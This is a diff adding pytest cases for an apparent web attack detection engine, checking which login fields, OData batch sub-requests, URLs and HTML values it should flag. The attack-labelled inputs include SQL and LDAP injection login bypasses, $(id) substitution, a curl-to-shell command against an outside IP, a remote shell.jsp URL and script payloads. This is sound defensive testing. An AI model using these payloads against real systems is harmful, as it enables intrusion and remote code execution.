@@ -67,3 +67,92 @@ def test_androxgh0st_checkin_is_a_tool_mark(engine):
     hits = engine.inspect(req("/", "POST", [("Content-Type", "application/x-www-form-urlencoded")], b"0x%5B%5D=androxgh0st"))
     assert "scanner:tool_marker" in {h.rule for h in hits if h.score >= 0.5}
     assert verdict(engine.inspect(req("/?q=androxgh0st+malware+analysis"))) == "clean"  # the name in a search is a word
+
+
+# --- benign 9 (enterprise products): strong passwords, batch sub-requests, the site's own URLs, e-mail heads
+_FORM = [("Content-Type", "application/x-www-form-urlencoded")]
+
+
+@pytest.mark.parametrize("field,value,attack", [
+    ("passwd", "S&mmer<>2024\";", False),            # chance shapes of a strong password: reported, not blocked
+    ("passwd", "Gl0b@l;|$ecure", False),
+    ("password", "Crüsh+%&Ftp", False),
+    ("pwd", "<my>pass'word\";", False),
+    ("new_password", "x';q|z&Y", False),
+    ("password", "' or 1=1--", True),                 # login bypasses keep their own rules
+    ("pass", "x'||'1'='1", True),
+    ("password", "*)(|(objectClass=*)", True),
+    ("password", "$(id)", True),
+    ("password", ";curl http://203.0.113.9/x|sh;echo '", True),   # three words and more: judged as any value
+    ("password_hash", "S&mmer<>2024\";", True),       # not a password as typed
+    ("comment", "S&mmer<>2024\";", True),
+])
+def test_password_fields(engine, field, value, attack):
+    from urllib.parse import quote_plus
+    body = f"user=jdoe&{field}={quote_plus(value)}".encode()
+    hits = engine.inspect(req("/login", "POST", _FORM, body))
+    assert (verdict(hits) == "attack") == attack, hits
+
+
+def test_password_in_json(engine):
+    ok = engine.inspect(req("/api/login", "POST", [("Content-Type", "application/json")],
+                            b'{"username": "jdoe", "password": "S&mmer<>2024\\";"}'))
+    bad = engine.inspect(req("/api/login", "POST", [("Content-Type", "application/json")],
+                             b'{"username": "jdoe", "password": "\' or 1=1--"}'))
+    typed = engine.inspect(req("/api/login", "POST", [("Content-Type", "application/json")],
+                               b'{"username": "admin", "password": true}'))
+    assert verdict(ok) == "clean" and verdict(bad) == "attack" and verdict(typed) == "attack"
+
+
+def _batch(sub: str) -> bytes:
+    return ("--b1\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\n" + sub
+            + "\r\n--b1--\r\n").encode()
+
+
+@pytest.mark.parametrize("sub,attack", [
+    ("POST Approve?PONumber='4500012345'&Comment='OK%20-%20within%20budget' HTTP/1.1\r\nContent-Type: application/json"
+     "\r\nContent-Length: 0\r\n\r\n", False),
+    ("GET PurchaseOrderSet('4500012345')?$expand=ToItems HTTP/1.1\r\nAccept: application/json\r\n\r\n", False),
+    ("GET Users?$filter=name%20eq%20''%20or%201=1--' HTTP/1.1\r\nAccept: application/json\r\n\r\n", True),
+    ("POST Notes HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"text\": \"<script>alert(1)</script>\"}", True),
+])
+def test_batch_sub_requests_are_read_as_requests(engine, sub, attack):
+    hits = engine.inspect(req("/sap/opu/odata/sap/ZPO_SRV/$batch", "POST",
+                              [("Content-Type", "multipart/mixed; boundary=b1")], _batch(sub)))
+    assert (verdict(hits) == "attack") == attack, hits
+    if attack:
+        assert any("http" in h.point for h in hits if h.score >= 0.5), hits
+
+
+def test_a_script_url_on_the_site_itself_is_not_remote(engine):
+    own = "https://bigip01.corp.example.com/tmui/Control/jspmap/tmui/locallb/virtual_server/list.jsp"
+    other = "https://evil.example.net/shell.jsp"
+    r = req("/tmui/x", headers=[("Cookie", "f5_refreshpage=" + own)], host="bigip01.corp.example.com")
+    assert verdict(engine.inspect(r)) == "clean"
+    r = req("/tmui/x?page=" + other, host="bigip01.corp.example.com")
+    assert verdict(engine.inspect(r)) == "attack"
+
+
+@pytest.mark.parametrize("value,attack", [
+    ('<meta http-equiv="Content-Type" content="text/html; charset=UTF-8">', False),
+    ('<meta name="viewport" content="width=device-width">', False),
+    ('<meta charset="utf-7">', True),
+    ('<meta http-equiv="set-cookie" content="sid=x">', True),
+    ('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', True),
+])
+def test_meta_tags(engine, value, attack):
+    assert (verdict(engine.inspect_value(value)) == "attack") == attack
+
+
+@pytest.mark.parametrize("value,attack", [
+    ("<p>The unit file is tiny:</p><pre>[Timer]\nOnCalendar=*-*-* 03:00:00\nPersistent=true</pre>", False),
+    ("<b>x</b> onmouseover=alert(1)", True),           # a known handler stays a breakout wherever it is
+    ("\" onfoo=alert(1) x=\"", True),                   # an unknown one after a quote too
+    ('{{widget type="Magento\\CatalogWidget\\Block\\Product\\ProductsList" '
+     'conditions_encoded="^[`1`:^[`type`:`Magento||CatalogWidget||Model||Rule||Condition||Combine`,`aggregator`:`all`]]"}}',
+     False),                                           # JSON quoted with backticks, not command substitution
+    ("name=`id`", True),
+    ("{\"a\": \"`id`\"}", True),
+])
+def test_text_after_tags_and_backtick_json(engine, value, attack):
+    assert (verdict(engine.inspect_value(value)) == "attack") == attack
